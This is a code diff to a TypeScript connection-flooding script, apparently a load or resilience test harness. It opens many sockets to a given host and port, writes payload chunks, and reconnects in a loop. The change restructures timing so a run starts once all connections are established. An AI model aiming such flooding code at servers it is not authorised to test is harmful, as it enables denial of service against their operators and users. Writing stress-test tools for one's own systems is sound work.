@@ -20,6 +20,8 @@ export interface FloodResult {
   readonly bytes: number;
 }
 
+/** Its time begins when all its connections are there, which takes a while on a busy machine, but no longer than this. */
+const CONNECT_MS = 30_000;
 /** Before it connects again: a caller that hammers the kernel floods itself. */
 const AGAIN_MS = 5;
 
@@ -27,8 +29,21 @@ const wish = JSON.parse(process.argv[2] ?? "") as FloodWish;
 const flood: Flood = FLOODS[wish.flood];
 const [host = "", port = ""] = wish.address.split(":");
 const result = { connected: 0, refused: 0, bytes: 0 };
-const endsAt = performance.now() + wish.seconds * 1_000;
-const isOver = (): boolean => performance.now() >= endsAt;
+const sockets = new Set<Socket>();
+const over = new AbortController();
+let end = setTimeout(stop, CONNECT_MS);
+
+function stop(): void {
+  over.abort();
+  for (const socket of sockets) socket.destroy();
+}
+
+function connected(): void {
+  result.connected++;
+  if (result.connected !== flood.connections) return;
+  clearTimeout(end);
+  end = setTimeout(stop, wish.seconds * 1_000);
+}
 
 function open(): Socket {
   const to = { host, port: Number(port) };
@@ -42,18 +57,18 @@ function open(): Socket {
 /** One connection until it is closed or the time is over. */
 async function attack(): Promise<void> {
   const socket = open();
+  sockets.add(socket);
   socket.on("error", () => undefined);
   socket.resume();
   const closed = once(socket, "close").catch(() => undefined);
-  const timer = setTimeout(() => socket.destroy(), Math.max(0, endsAt - performance.now()));
   socket.once(wish.tls && flood.opening.length > 0 ? "secureConnect" : "connect", () => {
-    result.connected++;
+    connected();
     if (flood.opening.length === 0) return;
     socket.write(flood.opening);
     if (flood.chunks !== undefined) void pour(socket, flood.chunks(wish.tag), closed);
   });
   await closed;
-  clearTimeout(timer);
+  sockets.delete(socket);
   result.bytes += socket.bytesWritten;
 }
 
@@ -63,7 +78,7 @@ async function pour(
   closed: Promise<unknown>,
 ): Promise<void> {
   for (const chunk of chunks) {
-    if (socket.destroyed || isOver()) return;
+    if (socket.destroyed || over.signal.aborted) return;
     if (!socket.write(chunk)) {
       await Promise.race([once(socket, "drain").catch(() => undefined), closed]);
     }
@@ -73,7 +88,7 @@ async function pour(
 }
 
 async function keepAttacking(): Promise<void> {
-  while (!isOver()) {
+  while (!over.signal.aborted) {
     await attack();
     await new Promise((resolve) => setTimeout(resolve, AGAIN_MS));
   }
